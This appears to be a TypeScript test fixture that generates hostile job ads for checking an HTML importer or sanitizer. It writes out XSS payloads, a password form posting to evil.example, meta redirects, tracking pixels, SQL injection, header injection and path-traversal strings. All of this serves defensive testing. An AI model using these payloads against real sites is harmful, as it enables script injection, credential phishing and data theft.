/** Sixty ads that nobody would write on purpose, and some that somebody would. */
import type { SourceJob } from './import-jobs.ts';

export interface HostileJob extends SourceJob {
  /** A word that occurs only in this ad. */
  mark: string;
}

const payloads: readonly [title: string, description: string][] = [
  ['Script', '<script>window.pwned = 1</script><p>Text</p>'],
  ['<script>window.pwned = 1</script> in the title', '<p>Text</p>'],
  ['Unclosed', '<div><p><b><i><u>Text <ul><li>one<li>two<table><tr><td>cell'],
  ['Closes everything', '</p></div></article></main></body></html><p>After the end</p>'],
  ['Comment', '<p>Text <!-- no end <script>window.pwned = 1</script>'],
  ['Conditional comment', '<!--[if gte mso 9]><xml><o:p>x</o:p></xml><![endif]--><p>Text</p>'],
  ['CDATA', '<![CDATA[<script>window.pwned = 1</script>]]><p>Text</p>'],
  [
    'Event handlers',
    '<p onclick="window.pwned=1" onmouseover=window.pwned=1>Text</p><img src=x onerror="window.pwned=1">',
  ],
  ['Slashes for spaces', '<img/src=x/onerror=window.pwned=1><svg/onload=window.pwned=1><p>Text</p>'],
  [
    'Links that run',
    '<a href="javascript:window.pwned=1">a</a><a href=" JaVaScRiPt:window.pwned=1">b</a><a href="java&#10;script:window.pwned=1">c</a><p>Text</p>',
  ],
  ['Encoded links', '<a href="&#106;&#97;vascript:window.pwned=1">a</a><a href="vbscript:x">b</a><p>Text</p>'],
  [
    'Data links',
    '<a href="data:text/html;base64,PHNjcmlwdD53aW5kb3cucHduZWQ9MTwvc2NyaXB0Pg==">a</a><iframe src="data:text/html,x"></iframe><p>Text</p>',
  ],
  [
    'SVG',
    '<svg><script>window.pwned=1</script><foreignObject><p>x</p></foreignObject><animate onbegin=window.pwned=1></svg><p>Text</p>',
  ],
  ['SVG style', '<svg></p><style><a id="</style><img src=1 onerror=window.pwned=1>"></svg><p>Text</p>'],
  [
    'MathML',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=window.pwned=1&gt;"></math><p>Text</p>',
  ],
  ['noscript', '<noscript><p title="</noscript><img src=x onerror=window.pwned=1>"></noscript><p>Text</p>'],
  ['textarea', '<textarea><img src=x onerror=window.pwned=1></textarea><p>Text</p>'],
  [
    'Style',
    '<style>body { display: none }</style><p style="position:fixed;inset:0;background:url(javascript:1)">Text</p>',
  ],
  [
    'Classes and ids',
    '<p class="button" id="main">Text</p><p id="__next">x</p><form id="x"><input name="attributes"></form>',
  ],
  ['Clobbering', '<form name="body"><input name="cookie"></form><img name="getElementById"><p>Text</p>'],
  [
    'Frames',
    '<iframe srcdoc="<script>parent.pwned=1</script>"></iframe><object data="x.swf"></object><embed src="x.swf"><p>Text</p>',
  ],
  [
    'Forms',
    '<form action="https://evil.example/"><input type="password" name="p"><button>Sign in</button></form><p>Text</p>',
  ],
  [
    'Base and meta',
    '<base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=https://evil.example/"><link rel="stylesheet" href="https://evil.example/x.css"><p>Text</p>',
  ],
  [
    'Pictures from elsewhere',
    '<img src="//evil.example/track.gif" width=1 height=1><img srcset="//evil.example/2.gif 2x"><p>Text</p>',
  ],
  ['Escaped markup', '&lt;p&gt;Text &lt;b&gt;twice&lt;/b&gt;&lt;/p&gt;'],
  ['Doubly escaped', '&amp;lt;script&amp;gt;window.pwned=1&amp;lt;/script&amp;gt;'],
  ['Ends the data block', '<p>Text </script><script>window.pwned=1</script></p>'],
  ['Ends the data block in the title </script><script>window.pwned=1</script>', '<p>Text</p>'],
  ['Template {{constructor.constructor("window.pwned=1")()}} <%= 7 %>', '<p>{{7*7}} #{7*7} <%= 7 %></p>'],
  ['NUL \u0000 and controls \u0001\u0008\u001b', '<p>Te\u0000xt \u0007 \u001b[31mred</p>'],
  ['Lone halves \ud800 \udfff', '<p>Text \ud83d and \ude00</p>'],
  ['Line ends \u2028 and \u2029', '<p>Te\u2028xt \u2029 more \u0085</p>'],
  ['Zero\u200bwidth\u200d\ufeff', '<p>T\u200be\u200cx\u200dt \u2060</p>'],
  ['\u202eDesrever si eltit siht', '<p>\u202eText \u2066back\u2069</p>'],
  ['مهندس برمجيات', '<p dir="rtl">نبحث عن مهندس برمجيات</p>'],
  ['מפתח תוכנה', '<p>דרוש מפתח תוכנה Text</p>'],
  ['软件工程师', '<p>我们正在寻找软件工程师</p>'],
  ['👩‍👩‍👧‍👦 Family 🏳️‍🌈 coach 🇩🇪', `<p>${'👩🏽‍🚀'.repeat(200)} Text</p>`],
  [`Z${'\u0300\u0301\u0302\u0303'.repeat(40)}algo`, `<p>T${'\u0315\u031b'.repeat(200)}ext</p>`],
  [`Long ${'word'.repeat(60)}`, `<p>${'W'.repeat(5000)}</p>`],
  [`${'Many words '.repeat(40)}`, '<p>Text</p>'],
  ['Huge', `<p>${'Lorem text '.repeat(18_000)}</p>`],
  ['Deep', `${'<div>'.repeat(3000)}Text${'</div>'.repeat(3000)}`],
  ['Deep lists', `${'<ul><li>'.repeat(120)}Text`],
  ['Many items', `<ul>${'<li>Text</li>'.repeat(3000)}</ul>`],
  ['Many attributes', `<p ${Array.from({ length: 500 }, (_, at) => `a${at}="x"`).join(' ')}>Text</p>`],
  ['Headings', '<h1>Second first heading</h1><h6>Text</h6><h1></h1>'],
  ['Empty text', ''],
  ['Only markup', '<p></p><p>&nbsp;</p><br><div></div>'],
  ['Table', `<table><caption>x</caption>${'<tr><td>Text<td>Text'.repeat(50)}</table>`],
  ['Wide text', `<pre>${'Text '.repeat(500)}</pre>`],
  ['Nested links', '<a href="https://a.example"><a href="https://b.example">Text</a></a>'],
  [
    'Odd links',
    '<a href="//evil.example">a</a><a href="http://user:pass@evil.example">b</a><a href="https://[::1">c</a><a href="mailto:a@b.example?bcc=x">d</a><p>Text</p>',
  ],
  ['Word leftovers', '<p class=MsoNormal><o:p></o:p><span lang=EN-US style="mso-fareast-language:DE">Text</span></p>'],
  ['%00 %0d%0aSet-Cookie: a=b', '<p>Text %E2%80%A8</p>'],
  ["Robert'); drop table job;--", "<p>' or 1=1; -- Text</p>"],
  ['"Quotes" \'and\' `ticks` & ampersands <br>', '<p>"Text" &amp;amp; &copy; &#x1F600; &unknown;</p>'],
  ['../../../etc/passwd', '<p>Text</p>'],
  ['   ', '<p>Text</p>'],
  ['__proto__', '<p>constructor Text toString</p>'],
];

/** Fresh values; each contains its mark in title and text. */
export function hostileJobs(): HostileJob[] {
  return payloads.map(([title, description], at) => {
    const mark = `zq${1000 + at}qz`;
    return {
      mark,
      title: `${title.slice(0, 180)} ${mark}`,
      company: at % 7 === 0 ? null : `Firm <b>${at}</b> & "Sons"`,
      location: at % 5 === 0 ? '<img src=x>' : 'Portland, Maine',
      description: description === '' || title === 'Only markup' ? description : `${description}<p>${mark}</p>`,
      format: at % 9 === 8 ? 'plain' : 'filtered_html',
      language: 'en',
    };
  });
}
